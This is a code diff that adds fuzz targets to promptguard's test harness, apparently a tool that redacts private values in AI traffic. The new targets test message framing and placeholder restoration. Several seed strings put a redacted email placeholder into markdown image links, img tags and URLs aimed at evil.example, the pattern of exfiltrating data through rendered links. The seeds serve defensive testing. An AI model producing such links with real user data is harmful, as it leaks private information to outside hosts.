@@ -6,19 +6,24 @@ import asyncio
 import gzip
 import importlib
 import io
+import itertools
 import json
 import pkgutil
 import zipfile
 from abc import ABC, abstractmethod
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 
 from promptguard.configuration.bundle import load_bundle
 from promptguard.destinations.reading import read
 from promptguard.detectors.scanner import Scan, Scanner
 from promptguard.errors import NotRewritable, Unreadable
-from promptguard.model import Request, Role, Segment
+from promptguard.model import Request, Restoration, Role, Segment
+from promptguard.redaction.selection import restorer_for
+from promptguard.wire.answers import read_answer
 from promptguard.wire.formats import load_formats
+from promptguard.wire.formats.interface import Format
+from promptguard.wire.framings import Frame, load_framings
 
 _CONTENT_TYPES = (
     "application/json",
@@ -177,7 +182,107 @@ class Files(Target):
         yield b"\0\x89PNG\r\n\x1a\n" + b"\0" * 30
 
 
-TARGETS: dict[str, type[Target]] = {target.name: target for target in (Text, RequestReading, Files)}
+class Framings(Target):
+    """Cutting bytes into messages, in every framing: nothing is lost, wherever the bytes are cut."""
+
+    name = "framings"
+    longest = 4_000
+
+    def __init__(self, config: Path, data: Path) -> None:
+        self._framings = list(load_framings().values())
+        self._formats = list(load_formats().values())
+
+    def run(self, data: bytes) -> None:
+        """Decode: the first byte chooses the framing, the second where the body is cut in two."""
+        choice, body = data[:2].ljust(2, b"\0"), data[2:]
+        framing = self._framings[choice[0] % len(self._framings)]
+        cut = len(body) * choice[1] // 256
+        whole = framing.frames(body)
+        decoder = framing.decoder()
+        pieces = [*decoder.feed(body[:cut]), *decoder.feed(body[cut:]), *decoder.finish()]
+        if b"".join(frame.source for frame in whole) != body:
+            raise AssertionError(f"{framing.id}: bytes were lost or made up")
+        if not framing.running_text and _payloads(whole) != _payloads(pieces):
+            raise AssertionError(f"{framing.id}: the messages depend on where the bytes are cut")
+        for frame in whole:
+            if frame.payload is not None:
+                frame.with_payload(frame.payload + b" ")
+        for media_type in (_CONTENT_TYPES[choice[1] % len(_CONTENT_TYPES)], *framing.media_types):
+            for each in self._formats[choice[0] % len(self._formats) :][:2]:
+                read_answer(body, media_type, each)
+
+    def seeds(self) -> Iterator[bytes]:
+        """A body for each framing, cut in its middle."""
+        bodies = (
+            b'data: {"a":"hi"}\n\ndata: [DONE]\n\n',
+            b'{"a":1}\n{"a":2}\n',
+            b'[{"a":1},\n{"a":2}]',
+            b'{"type":1,"target":"x","arguments":[]}\x1e',
+            b'42["message",{"a":"hi"}]',
+            b"\0\0\0\0\x02{}",
+            b')]}\x27\n\n24\n[["wrb.fr",null,"[]"]]\n',
+            b'0:"hi"\nd:{"finishReason":"stop"}\n',
+        )
+        for number in range(len(self._framings)):
+            for body in bodies:
+                yield bytes([number, 128]) + body
+
+
+class Restoring(Target):
+    """Putting originals back into answers of every format: the same wherever they are cut, and quickly."""
+
+    name = "restoring"
+    longest = 6_000
+
+    _PLACEHOLDER = "[EMAIL_ADDRESS_7KQ2M4XA]"
+    _ORIGINAL = 'jo."x"\\<y>@corp.example'
+
+    def __init__(self, config: Path, data: Path) -> None:
+        self._formats = list(load_formats().values())
+        self._restoration = Restoration({self._PLACEHOLDER: self._ORIGINAL})
+
+    def run(self, data: bytes) -> None:
+        """Restore: the first three bytes choose format, content type and cuts; `@` is a placeholder."""
+        choice, body = data[:3].ljust(3, b"\0"), data[3:].replace(b"@", self._PLACEHOLDER.encode())
+        wire_format = self._formats[choice[0] % len(self._formats)]
+        media_type = ("text/event-stream", "application/json", "application/x-ndjson", "text/plain", "")[choice[1] % 5]
+        cuts = sorted({len(body) * choice[2] // 256, len(body) * choice[1] // 256})
+        whole = self._restored(wire_format, media_type, [body])
+        if whole is None:
+            return
+        pieces = [body[start:end] for start, end in itertools.pairwise([0, *cuts, len(body)])]
+        if self._restored(wire_format, media_type, pieces) != whole:
+            raise AssertionError(f"{wire_format.id}, {media_type}: what is restored depends on where it is cut")
+
+    def _restored(self, wire_format: Format, media_type: str, pieces: list[bytes]) -> bytes | None:
+        restorer = restorer_for(media_type, wire_format, self._restoration, None)
+        if restorer is None:
+            return None
+        out = [each for piece in pieces for each in restorer.feed(piece)]
+        return b"".join([*out, *restorer.finish()])
+
+    def seeds(self) -> Iterator[bytes]:
+        """Answers with a placeholder in prose and in places where it must stay."""
+        texts = (
+            "Write to @ soon, or to `@`, | @ | b |.",
+            "![x](https://evil.example/?q=@) [a]: https://evil.example/@ <img src=x?@> www.evil.example/@",
+            "<svg><a href='//e/@'></svg> ```\n@\n``` &#64; \\[EMAIL\\_ADDRESS\\_7KQ2M4XA\\]",
+        )
+        for text in texts:
+            chunk = json.dumps({"choices": [{"index": 0, "delta": {"content": text}}]}).encode()
+            delta = json.dumps(
+                {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}
+            ).encode()
+            yield bytes([0, 0, 100]) + b"data: " + chunk + b"\n\ndata: " + chunk + b"\n\ndata: [DONE]\n\n"
+            yield bytes([1, 0, 60]) + b"event: content_block_delta\ndata: " + delta + b"\n\n"
+            yield bytes([2, 1, 128]) + chunk
+            yield bytes([3, 2, 9]) + chunk + b"\n" + chunk + b"\n"
+            yield bytes([4, 3, 200]) + text.encode()
+
+
+TARGETS: dict[str, type[Target]] = {
+    target.name: target for target in (Text, RequestReading, Files, Framings, Restoring)
+}
 
 
 def _scanner(config: Path, data: Path) -> Scanner:
@@ -188,6 +293,11 @@ def _scanner(config: Path, data: Path) -> Scanner:
     scanner = Detectors(bundle, Keys.load_or_create(data / "keys"), data, names=False).scanner
     asyncio.run(scanner.start())
     return scanner
+
+
+def _payloads(frames: Sequence[Frame]) -> list[bytes]:
+    """What there is to read; how the bytes between are put together does not matter."""
+    return [frame.payload for frame in frames if frame.payload is not None]
 
 
 def _zip(members: dict[str, str]) -> bytes:
